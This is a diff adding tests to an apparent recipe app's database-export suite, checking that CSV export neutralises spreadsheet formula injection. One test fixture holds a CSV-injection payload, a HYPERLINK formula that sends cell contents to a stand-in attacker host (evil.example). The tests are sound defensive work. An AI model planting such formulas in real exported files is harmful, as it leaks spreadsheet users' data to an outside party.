@@ -3,6 +3,7 @@ import { execFileSync } from 'node:child_process';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import { csvField } from '../../../src/server/api/recipes/databaseExport';
 import { startTestServer, type TestServer } from '../helpers/testServer';
 
 jest.setTimeout(120_000);
@@ -108,6 +109,43 @@ describe('database export', () => {
       .split('\r\n');
     expect(links[0]).toBe('ingredient_id,food_group_id');
     expect(new Set(links.slice(1)).size).toBe(5000);
+  });
+
+  it('writes a recipe named like a formula so that a spreadsheet opens it as text (OWASP CSV injection)', async () => {
+    const created = await server.app.inject({
+      method: 'POST',
+      url: '/api/recipe/',
+      headers: await server.auth('nutritionist'),
+      payload: {
+        name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        recipeIngredients: [],
+        preparationDetails: { servings: 2 },
+        otherInfo: '@SUM(1+1)',
+      },
+    });
+    expect(created.statusCode).toBe(200);
+    const { res, file } = await download('admin');
+    expect(res.statusCode).toBe(200);
+    expect(execFileSync('unzip', ['-tq', file]).toString()).toMatch(/No errors detected/);
+    const recipes = execFileSync('unzip', ['-p', file, 'nl/recipe.csv']).toString();
+    expect(recipes).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+    expect(recipes).toContain(`,'@SUM(1+1),`);
+    expect(recipes).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    expect(execFileSync('unzip', ['-p', file, 'README.txt']).toString()).toContain(
+      "leading ' so that spreadsheets show it as text",
+    );
+  });
+
+  it('neutralises every formula start (=, +, -, @, tab, carriage return) but leaves numbers alone', () => {
+    expect(['=1+2', '+1+2', '-2+3', '@A1', '\tx', '\rx'].map(csvField)).toEqual([
+      "'=1+2",
+      "'+1+2",
+      "'-2+3",
+      "'@A1",
+      "'\tx",
+      `"'\rx"`,
+    ]);
+    expect([-5, '-0.5', '+3', '-1e3', 'plain', '', null].map(csvField)).toEqual(['-5', '-0.5', '+3', '-1e3', 'plain', '', '']);
   });
 
   it('exports only the caller context', async () => {
